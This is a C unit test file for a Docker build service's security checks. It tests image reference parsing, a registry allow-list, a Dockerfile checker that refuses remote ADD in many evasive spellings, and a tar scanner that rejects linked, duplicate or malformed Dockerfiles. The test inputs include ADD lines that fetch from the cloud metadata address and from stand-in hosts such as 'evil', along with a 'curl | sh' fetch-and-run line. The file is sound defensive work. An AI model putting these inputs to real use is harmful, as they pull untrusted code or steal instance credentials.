/* Unit tests: image references and registries, the Dockerfile check (URL ADD in its spellings,
 * FROM/COPY --from images) and the tar scanner (path forms, long names, links, duplicates). */
#include <stdio.h>
#include <string.h>
#include <apr_strings.h>

#include "check_dockpay.h"
#include "dp_dk_build.h"

START_TEST(refs_are_normalised_like_docker)
{
    dp_dk_ref_t r;

    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "redis"), APR_SUCCESS);
    ck_assert_str_eq(r.registry, "docker.io");
    ck_assert_str_eq(r.path, "library/redis");
    ck_assert_str_eq(r.familiar, "redis:latest");
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "docker.io/library/redis:7"), APR_SUCCESS);
    ck_assert_str_eq(r.familiar, "redis:7");
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "index.docker.io/a/b"), APR_SUCCESS);
    ck_assert_str_eq(r.registry, "docker.io");
    ck_assert_str_eq(r.familiar, "a/b:latest");
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "local/busybox:test"), APR_SUCCESS);
    ck_assert_str_eq(r.registry, "docker.io");
    ck_assert_str_eq(r.familiar, "local/busybox:test");
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "localhost:5000/dp/bb:1"), APR_SUCCESS);
    ck_assert_str_eq(r.registry, "localhost:5000");
    ck_assert_str_eq(r.familiar, "localhost:5000/dp/bb:1");
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "localhost/x"), APR_SUCCESS);
    ck_assert_str_eq(r.registry, "localhost");
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "evil.example:443/x/y:2"), APR_SUCCESS);
    ck_assert_str_eq(r.registry, "evil.example:443");
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "Evil/x"), APR_SUCCESS);   /* upper case: a host */
    ck_assert_str_eq(r.registry, "Evil");
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "a@sha256:0123456789012345678901234567890123456789012345678901234567890123"),
                     APR_SUCCESS);
    ck_assert_ptr_null(r.tag);
    ck_assert_str_eq(r.familiar, "a@sha256:0123456789012345678901234567890123456789012345678901234567890123");
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "Redis"), APR_EINVAL);
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "a:"), APR_EINVAL);
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "bad name"), APR_EINVAL);
    ck_assert_int_eq(dp_dk_ref_parse(&r, tp, "a@md5:1"), APR_EINVAL);
}
END_TEST

START_TEST(registry_allow_list)
{
    apr_array_header_t *a = apr_array_make(tp, 2, sizeof(const char *));

    ck_assert(dp_dk_registry_allowed(NULL, "docker.io"));
    ck_assert(!dp_dk_registry_allowed(NULL, "localhost:5000"));
    APR_ARRAY_PUSH(a, const char *) = "localhost:5000";
    ck_assert(dp_dk_registry_allowed(a, "LOCALHOST:5000"));
    ck_assert(!dp_dk_registry_allowed(a, "docker.io"));
    ck_assert(!dp_dk_registry_allowed(a, "localhost:5001"));
    APR_ARRAY_PUSH(a, const char *) = "docker.io";
    ck_assert(dp_dk_registry_allowed(a, "index.docker.io"));
}
END_TEST

static int refused(const char *df, int line)
{
    dp_dk_dfile_t res;
    apr_status_t rv = dp_dk_dockerfile_check(&res, tp, df, strlen(df));

    if (rv == APR_SUCCESS) {
        return 0;
    }
    ck_assert_ptr_nonnull(res.reason);
    if (line && res.line != line) {
        ck_abort_msg("refused at line %d, not %d: %s", res.line, line, res.reason);
    }
    return 1;
}

START_TEST(dockerfile_url_add_spellings_are_refused)
{
    ck_assert(refused("FROM a\nADD http://169.254.169.254/latest /x\n", 2));
    ck_assert(refused("FROM a\nadd https://evil/x /x\n", 2));
    ck_assert(refused("FROM a\n  Add   HTTP://evil/x /x\n", 2));
    ck_assert(refused("FROM a\nADD --chown=1:1 --checksum=sha256:00 http://evil/x /x\n", 2));
    ck_assert(refused("FROM a\nADD [\"http://evil/x\", \"/x\"]\n", 2));
    ck_assert(refused("FROM a\nADD [\"http\\u003a//evil/x\", \"/x\"]\n", 2));
    ck_assert(refused("FROM a\nADD \"http://evil/x\" /x\n", 2));
    ck_assert(refused("FROM a\nADD http:\\/\\/evil/x /x\n", 2));
    ck_assert(refused("FROM a\nADD http:\\\n//evil/x /x\n", 2));
    ck_assert(refused("FROM a\nADD http:\\\n# a comment in between\n\n//evil/x /x\n", 2));
    ck_assert(refused("# escape=`\nFROM a\nADD http:`\n//evil/x /x\n", 3));
    ck_assert(refused("FROM a\nADD http:`\n//evil/x /x\n", 2));        /* no directive: still refused */
    ck_assert(refused("FROM a\nONBUILD ADD http://evil/x /x\n", 2));
    ck_assert(refused("FROM a\nonbuild add git@github.com:x/y.git /x\n", 2));
    ck_assert(refused("FROM a\nADD git://evil/repo.git /x\n", 2));
    ck_assert(refused("FROM a\nADD github.com/x/y /x\n", 2));
    ck_assert(refused("FROM a\nARG U=http://evil\nADD $U /x\n", 3));
    ck_assert(refused("FROM a\nADD ${U} /x\n", 2));
    ck_assert(refused("FROM a\nADD <<EOF /x\nhello\nEOF\n", 2));
    ck_assert(refused("\xEF\xBB\xBF" "FROM a\r\nADD http://evil/x /x\r\n", 2));
    ck_assert(refused("FROM a\nRUN true \\\n && echo\nADD\thttp://evil /x\n", 4));
    /* Unicode white space Docker trims before an instruction (NBSP, U+2003, U+3000) */
    ck_assert(refused("FROM a\n\xC2\xA0" "ADD http://evil /x\n", 2));
    ck_assert(refused("FROM a\n\xE2\x80\x83" "add http://evil /x\n", 2));
    ck_assert(refused("FROM a\nONBUILD \xE3\x80\x80" "ADD http://evil /x\n", 2));
    /* a line Docker does not continue (\\ then a vertical tab) still has its ADD checked */
    ck_assert(refused("FROM a\nRUN echo \\\v\nADD http://evil /x\n", 3));
    ck_assert(refused("FROM a\nLABEL a=b \\\nADD http://evil /x\n", 3));   /* under ` it is an ADD */
}
END_TEST

START_TEST(dockerfile_local_add_and_images)
{
    dp_dk_dfile_t res;
    const char *df = "# escape=\\\n# a comment\nFROM local/busybox:test AS base\nADD a.tar /x\n"
                     "ADD --chown=1:1 [\"b\", \"/y\"]\nCOPY --from=base /x /z\n"
                     "COPY --from=localhost:5000/dp/bb:1 /bin/sh /sh\nFROM base\nFROM scratch\n"
                     "COPY --from=0 /x /x\nRUN echo ok \\\n  # inside\n  && echo done\n";

    ck_assert_int_eq(dp_dk_dockerfile_check(&res, tp, df, strlen(df)), APR_SUCCESS);
    ck_assert_int_eq(res.images->nelts, 2);
    ck_assert_str_eq(APR_ARRAY_IDX(res.images, 0, const char *), "local/busybox:test");
    ck_assert_str_eq(APR_ARRAY_IDX(res.images, 1, const char *), "localhost:5000/dp/bb:1");
    ck_assert(refused("FROM --platform=linux/arm64 a\n", 1));
    ck_assert(refused("ARG B=a\nFROM $B\n", 2));
    ck_assert(refused("FROM a\nCOPY --from=${X} /a /b\n", 2));
    ck_assert(refused("FROM a\nONBUILD COPY --from=evil.example/x /a /b\n", 2));
    ck_assert(refused("FROM bad@@name\n", 1));
    ck_assert(!refused("FROM a\nRUN curl http://example/ | sh\nCOPY x /x\n", 0));
    ck_assert(!refused("FROM a\nRUN apt-get install \\\n    add-apt-repository \\\n    from-x\n", 0));
}
END_TEST

/* tar building */
static void put_hdr(apr_array_header_t *out, const char *name, char type, apr_size_t size, const char *prefix)
{
    unsigned char h[512];
    unsigned sum = 0;
    int i;

    memset(h, 0, sizeof(h));
    strncpy((char *)h, name, 100);
    memcpy(h + 100, "0000644", 7);
    {
        char oct[24];   /* the size field is 11 octal digits and a NUL: sizes here are small */
        snprintf(oct, sizeof(oct), "%011lo", (unsigned long)(size & 077777777777UL));
        memcpy(h + 124, oct, 12);
    }
    memcpy(h + 148, "        ", 8);
    h[156] = (unsigned char)type;
    memcpy(h + 257, "ustar\0" "00", 8);
    if (prefix) strncpy((char *)h + 345, prefix, 155);
    for (i = 0; i < 512; ++i) sum += h[i];
    snprintf((char *)h + 148, 8, "%06o", sum);
    memcpy(apr_array_push(out), h, 512);
}

static void put_data(apr_array_header_t *out, const char *data, apr_size_t n)
{
    apr_size_t i;
    char blk[512];

    for (i = 0; i < n; i += 512) {
        memset(blk, 0, sizeof(blk));
        memcpy(blk, data + i, n - i < 512 ? n - i : 512);
        memcpy(apr_array_push(out), blk, 512);
    }
}

static void put_file(apr_array_header_t *out, const char *name, const char *data)
{
    put_hdr(out, name, '0', strlen(data), NULL);
    put_data(out, data, strlen(data));
}

static apr_array_header_t *tar_new(void)
{
    return apr_array_make(tp, 16, 512);
}

static void put_end(apr_array_header_t *out)
{
    char z[1024] = { 0 };
    put_data(out, z, 1024);
}

/* Scans the tar in chunks of step bytes; returns finish's status, *ptext the Dockerfile. */
static apr_status_t scan(const char **ptext, int *pstatus, apr_array_header_t *tar, const char *want, apr_size_t step)
{
    dp_dk_tar_t *t = dp_dk_tar_create(tp, want);
    apr_size_t len = (apr_size_t)tar->nelts * 512, off;
    apr_size_t n;
    apr_status_t rv;

    for (off = 0; off < len; off += step) {
        if (dp_dk_tar_feed(t, tar->elts + off, len - off < step ? len - off : step) != APR_SUCCESS) {
            break;
        }
    }
    rv = dp_dk_tar_finish(ptext, &n, t);
    (void)dp_dk_tar_error(t, pstatus);
    return rv;
}

START_TEST(tar_finds_the_dockerfile_in_its_forms)
{
    const char *text;
    int st;
    apr_array_header_t *a = tar_new();
    static const apr_size_t steps[] = { 1, 7, 512, 100000 };
    int i;
    char pax[64];

    put_file(a, "x", "data");
    put_file(a, "./Dockerfile", "FROM a\n");
    put_end(a);
    for (i = 0; i < 4; ++i) {
        ck_assert_int_eq(scan(&text, &st, a, NULL, steps[i]), APR_SUCCESS);
        ck_assert_str_eq(text, "FROM a\n");
    }
    /* lower-case fallback, sub-folder with prefix field, GNU long name, pax path */
    a = tar_new();
    put_file(a, "dockerfile", "FROM b\n");
    put_end(a);
    ck_assert_int_eq(scan(&text, &st, a, NULL, 3), APR_SUCCESS);
    ck_assert_str_eq(text, "FROM b\n");
    a = tar_new();
    put_hdr(a, "Dockerfile.web", '0', 7, "sub//dir");
    put_data(a, "FROM c\n", 7);
    put_end(a);
    ck_assert_int_eq(scan(&text, &st, a, "sub/dir/Dockerfile.web", 11), APR_SUCCESS);
    ck_assert_str_eq(text, "FROM c\n");
    a = tar_new();
    put_hdr(a, "././@LongLink", 'L', 11, NULL);
    put_data(a, "Dockerfile\0", 11);
    put_hdr(a, "somethingelse", '0', 7, NULL);
    put_data(a, "FROM d\n", 7);
    put_end(a);
    ck_assert_int_eq(scan(&text, &st, a, NULL, 13), APR_SUCCESS);
    ck_assert_str_eq(text, "FROM d\n");
    a = tar_new();
    snprintf(pax, sizeof(pax), "19 path=Dockerfile\n");
    put_hdr(a, "PaxHeaders/x", 'x', strlen(pax), NULL);
    put_data(a, pax, strlen(pax));
    put_hdr(a, "other", '0', 7, NULL);
    put_data(a, "FROM e\n", 7);
    put_end(a);
    ck_assert_int_eq(scan(&text, &st, a, NULL, 512), APR_SUCCESS);
    ck_assert_str_eq(text, "FROM e\n");
    /* not there */
    a = tar_new();
    put_file(a, "x", "y");
    put_end(a);
    ck_assert_int_eq(scan(&text, &st, a, NULL, 512), APR_NOTFOUND);
}
END_TEST

START_TEST(tar_refuses_ambiguous_and_linked_dockerfiles)
{
    const char *text;
    int st;
    apr_array_header_t *a = tar_new();

    put_file(a, "Dockerfile", "FROM a\n");
    put_file(a, "a/../Dockerfile", "FROM a\nADD http://evil /\n");
    put_end(a);
    ck_assert_int_eq(scan(&text, &st, a, NULL, 512), APR_EINVAL);
    ck_assert_int_eq(st, 422);
    a = tar_new();
    put_file(a, "Dockerfile", "FROM a\n");
    put_file(a, "dockerfile", "FROM b\n");
    put_end(a);
    ck_assert_int_eq(scan(&text, &st, a, NULL, 512), APR_EINVAL);
    a = tar_new();
    put_hdr(a, "Dockerfile", '2', 0, NULL);
    put_end(a);
    ck_assert_int_eq(scan(&text, &st, a, NULL, 512), APR_EINVAL);
    ck_assert_int_eq(st, 403);
    a = tar_new();
    put_hdr(a, "sub", '2', 0, NULL);
    put_file(a, "sub/Dockerfile", "FROM a\n");
    put_end(a);
    ck_assert_int_eq(scan(&text, &st, a, "sub/Dockerfile", 512), APR_EINVAL);
    ck_assert_int_eq(st, 403);
    /* a corrupt checksum, a truncated entry, a gzip stream */
    a = tar_new();
    put_file(a, "Dockerfile", "FROM a\n");
    a->elts[148] = '7';
    ck_assert_int_eq(scan(&text, &st, a, NULL, 512), APR_EINVAL);
    ck_assert_int_eq(st, 422);
    a = tar_new();
    put_hdr(a, "Dockerfile", '0', 4000, NULL);
    ck_assert_int_eq(scan(&text, &st, a, NULL, 512), APR_EINVAL);
    a = tar_new();
    put_data(a, "\x1f\x8b\x08\0", 4);
    ck_assert_int_eq(scan(&text, &st, a, NULL, 512), APR_EINVAL);
    ck_assert_int_eq(st, 403);
    a = apr_array_make(tp, 1, 3);   /* a stream shorter than a block */
    memcpy(apr_array_push(a), "\x1f\x8b\x08", 3);
    {
        dp_dk_tar_t *t = dp_dk_tar_create(tp, NULL);
        apr_size_t n;
        (void)dp_dk_tar_feed(t, a->elts, 3);
        ck_assert_int_eq(dp_dk_tar_finish(&text, &n, t), APR_EINVAL);
        ck_assert_ptr_nonnull(dp_dk_tar_error(t, &st));
        ck_assert_int_eq(st, 403);
    }
}
END_TEST

TCase *tc_docker_build(void)
{
    TCase *tc = tcase_create("docker_build");

    tcase_add_test(tc, refs_are_normalised_like_docker);
    tcase_add_test(tc, registry_allow_list);
    tcase_add_test(tc, dockerfile_url_add_spellings_are_refused);
    tcase_add_test(tc, dockerfile_local_add_and_images);
    tcase_add_test(tc, tar_finds_the_dockerfile_in_its_forms);
    tcase_add_test(tc, tar_refuses_ambiguous_and_linked_dockerfiles);
    return tc;
}
